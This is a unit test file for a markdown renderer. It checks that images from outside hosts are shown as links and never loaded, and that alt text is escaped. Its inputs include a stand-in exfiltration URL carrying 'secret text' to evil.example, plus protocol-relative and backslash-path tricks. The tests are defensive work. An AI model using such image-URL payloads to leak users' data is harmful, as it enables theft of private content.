import { renderMarkdown } from './Markdown';

describe('renderMarkdown', () => {
  it('shows images of this origin', () => {
    const html = renderMarkdown('![chart](/api/files/content/abc.png)');
    expect(html).toContain('<img src="/api/files/content/abc.png" alt="chart">');
  });

  it('shows an image from another site as a link to it, never loading it', () => {
    const html = renderMarkdown('![x](https://evil.example/collect?q=secret%20text)');
    expect(html).not.toContain('<img');
    expect(html).toContain(
      '<a href="https://evil.example/collect?q=secret%20text" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  it('treats a protocol-relative image as an outside one, and keeps a backslash path on this origin', () => {
    expect(renderMarkdown('![a](//evil.example/p.png)')).not.toContain('<img');
    // markdown-it encodes the backslash, so the browser reads a path of this origin, not another host.
    expect(renderMarkdown('![a](/\\evil.example/p.png)')).toContain('<img src="/%5Cevil.example/p.png"');
  });

  it('escapes the alt text of an outside image', () => {
    const html = renderMarkdown('![<b>hi</b>](https://evil.example/p.png)');
    expect(html).not.toContain('<b>');
  });
});
